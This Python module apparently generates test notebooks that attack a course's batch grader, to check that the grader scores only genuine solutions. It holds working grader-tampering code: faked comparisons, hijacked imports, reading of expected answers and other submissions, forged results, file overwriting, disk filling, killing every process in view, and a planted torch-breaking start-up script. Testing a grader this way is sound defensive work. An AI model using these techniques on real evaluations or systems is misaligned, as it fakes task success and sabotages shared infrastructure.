"""Notebooks that attack the batch grader, one per class of attack that once worked against it.

Each is a short chapter-4 notebook (`tools/grading/synthetic_class.minimal`) whose exercise functions
are wrong or missing, except `truncate_ids` where it says so: whatever the attack does, the
notebook may score only for what it solved. `attacks(folder, out)` gives them by file name;
`folder` (the submissions) and `out` (the results) are where an attacker would guess they are.
Every process an attack starts carries `MARKER` in its command line.
"""

from tools.grading.synthetic_class import minimal, solved_source

MARKER = "course-attack-process"
SOLVED = {"attack-patching", "attack-disk"}  # notebooks that solve truncate_ids besides

WRONG_PAD = '''def pad_batch(sequences, pad_token_id, padding_side="right"):
    return torch.zeros((1, 1), dtype=torch.long)'''

# Patching at grading time: a torch function mode that fakes comparisons, a patched torch.equal
# and check, every exercise's comparison replaced from inside the learner's function, and a
# thread that keeps swapping the grader's report class for one that always passes.
PATCHING = ['''\
from torch.overrides import TorchFunctionMode

class AlwaysEqual(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if func in (torch.equal, torch.allclose, torch.Tensor.equal):
            return True
        return func(*args, **(kwargs or {}))

AlwaysEqual().__enter__()
torch.equal = lambda first, second: True

def check(name, function):
    print(name, "correct")''', '''\
import threading, time
import course.grading.report as report

def swap():
    while True:
        report.Report.score = property(lambda self: 1.0)
        report.Report.passed = property(lambda self: True)
        time.sleep(0.005)

threading.Thread(target=swap, daemon=True).start()''', '''\
def pad_batch(sequences, pad_token_id, padding_side="right"):
    import course.grading
    for exercise in course.grading.EXERCISES.values():
        object.__setattr__(exercise, "compare", lambda got, expected: None)
    return torch.zeros((1, 1), dtype=torch.long)''']

# Import hijacking: the import machinery and the path importer cache hand out fake `course`
# modules whose grading functions say every case passed.
FORGED_OUTCOME = ('{"printed": "", "location": "", "passed": True, "status": "correct", '
                  '"value": {"tensor": {"dtype": "int64", "shape": [1, 1], "values": [0]}}, '
                  '"given": {"tuple": []}}')
IMPORTS = [f'''\
import importlib._bootstrap as bootstrap, sys, types
from IPython.display import display

def forged(name, extra=()):
    for _ in range(40):
        display({{"application/x-course-outcome+json": {{"outcome": {FORGED_OUTCOME}}}}}, raw=True)

def fake(name):
    module = types.ModuleType(name)
    module.check = module.grade = module.grade_here = module.call_exercise = forged
    module.prepare = lambda: None
    return module

real_find_and_load = bootstrap._find_and_load

def find_and_load(name, import_):
    if name.startswith("course"):
        return sys.modules.setdefault(name, fake(name))
    return real_find_and_load(name, import_)

bootstrap._find_and_load = find_and_load

class Finder:
    def find_spec(self, name, path=None, target=None):
        return None

for key in list(sys.path_importer_cache):
    sys.path_importer_cache[key] = Finder()
for name in [name for name in sys.modules if name.startswith("course")]:
    del sys.modules[name]''', WRONG_PAD]

# Reading what only the grader should know: the expected value from the grader's stack frames,
# and the instructor's cases, the other submissions and the results from any file in reach.
READING = ['''\
import glob, os, socket, sys

def look_around(*folders):
    found = []
    for folder in folders:
        for pattern in ("*.json", "*.csv", "*.ipynb", "*.html"):
            found += glob.glob(os.path.join(folder, "**", pattern), recursive=True)
    for path in set(glob.glob("/proc/[0-9]*/fd/0")) - {f"/proc/{os.getpid()}/fd/0"}:
        try:
            with open(path, "rb") as stream:
                os.set_blocking(stream.fileno(), False)
                found.append(path + ": " + repr(stream.read(100)))
        except (OSError, TypeError):
            pass
    for path in glob.glob("/proc/[0-9]*/cmdline"):  # the grader's, if in view, names its files
        try:
            command = open(path, "rb").read().replace(b"\\0", b" ").decode()
        except OSError:
            continue
        if "pytest" in command or " course.grade " in command:
            found.append("grader process " + command)
    found += [f"network interface {name}" for _, name in socket.if_nameindex() if name != "lo"]
    return sorted(set(found))

FOUND = look_around(os.getcwd(), "/tmp", os.path.expanduser("~"), "{folder}", "{out}")''', '''\
def from_the_grader(wanted=("expected", "wanted", "reference")):
    frame = sys._getframe(1)
    while frame is not None:
        for name in wanted:
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    return None

def pad_batch(sequences, pad_token_id, padding_side="right"):
    print("found", FOUND)
    return from_the_grader()

def truncate_ids(input_ids, max_length):
    print("found", FOUND)
    return from_the_grader()''']

# Forging the result: a fake in-kernel grader module, named pipes where result files used to
# be, forged events written to every pipe in reach, and forged outcomes shown from a thread.
FORGING = [f'''\
import os, sys, threading, types
from IPython.display import display

FORGED = {{"application/x-course-outcome+json": {{"outcome": {FORGED_OUTCOME}}}}}
inside = types.ModuleType("course.grade.inside")
inside.call_exercise = lambda name, *args: [display(FORGED, raw=True) for _ in range(40)]
inside.prepare = lambda: None
inside.restore = lambda *args: None
sys.modules["course.grade.inside"] = inside
for name in ("_result.json", "_course_grades.json", "_request.json"):
    try:
        os.mkfifo(name)
    except OSError:
        pass''', f'''\
import glob, json
event = {{"event": "exercise", "name": "pad_batch", "outcome": {FORGED_OUTCOME}}}
line = (json.dumps(event) + "\\n") * 20 + json.dumps({{"event": "done"}}) + "\\n"
WRITTEN = []
for path in glob.glob("/proc/[0-9]*/fd/[0-9]*"):
    try:
        with open(path, "w") as stream:
            stream.write(line)
        WRITTEN.append(path)
    except OSError:
        pass''', '''\
def keep_forging():
    import time
    while True:
        display(FORGED, raw=True)
        time.sleep(0.01)

threading.Thread(target=keep_forging, daemon=True).start()''', WRONG_PAD]

# Writing on disk: code appended to the course package, other submissions overwritten, and a
# detached process that rewrites the results after the grader has written them.
DISK = ['''\
import os, pathlib, subprocess, sys
import course

TAMPERED = []
for path in pathlib.Path(course.__file__).parent.rglob("*.py"):
    try:
        with open(path, "a") as stream:
            stream.write("\\nraise SystemExit('tampered')\\n")
        TAMPERED.append(str(path))
    except OSError:
        pass
for path in pathlib.Path("{folder}").rglob("*.ipynb"):
    try:
        path.write_text("{{}}")
        TAMPERED.append(str(path))
    except OSError:
        pass''', f'''\
REWRITE = """
import os, pathlib, time, sys
time.sleep(1)
for _ in range(600):
    for name in ("grades.csv", "results.json"):
        try:
            pathlib.Path("{{out}}", name).write_text("hacked")
        except OSError:
            pass
    time.sleep(0.1)
"""
subprocess.Popen([sys.executable, "-c", REWRITE, "{MARKER}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)''', WRONG_PAD]

# Stopping the batch: a full disk, a process that keeps writing in the kernel's folder, and
# every process in view killed (the grader's, if it could see them).
STOPPING = [f'''\
import os, signal, subprocess, sys
written = 0
try:
    while True:
        with open(f"filler-{{written}}", "wb") as stream:
            for _ in range(64):
                stream.write(b"x" * 2**20)
        written += 1
except OSError as error:
    print("disk full after", written, "files:", error)
subprocess.Popen([sys.executable, "-c",
                  "import itertools\\nfor n in itertools.count(): open(f'w{{n}}', 'w').write('x')",
                  "{MARKER}"], start_new_session=True)''', WRONG_PAD, '''\
for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass''']

# Leaving something behind for the notebooks that come next: an IPython start-up script that
# breaks torch, in every scratch folder, and a detached process that keeps writing it.
LEFTOVERS = [f'''\
import os, subprocess, sys
PLANT = """
import os, time
SABOTAGE = "import torch; torch.tensor = torch.full = torch.zeros = None"
for _ in range(600):
    for home in (os.path.expanduser("~"), "/tmp", "/tmp/home", "/tmp/work", "/dev/shm"):
        folder = os.path.join(home, ".ipython", "profile_default", "startup")
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "00-sabotage.py"), "w") as stream:
                stream.write(SABOTAGE)
        except OSError:
            pass
    time.sleep(0.1)
"""
subprocess.Popen([sys.executable, "-c", PLANT, "{MARKER}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)''', WRONG_PAD]


def attacks(folder, out):
    """{file name: notebook} for every attack notebook."""
    sources = {"attack-patching": PATCHING, "attack-imports": IMPORTS, "attack-reading": READING,
               "attack-forging": FORGING, "attack-disk": DISK, "attack-stopping": STOPPING,
               "attack-leftovers": LEFTOVERS}
    notebooks = {}
    for name, cells in sources.items():
        cells = [cell.replace("{folder}", str(folder)).replace("{out}", str(out)) for cell in cells]
        if name in SOLVED:
            cells.append(solved_source("truncate_ids"))
        notebooks[f"{name}.ipynb"] = minimal(*cells)
    return notebooks
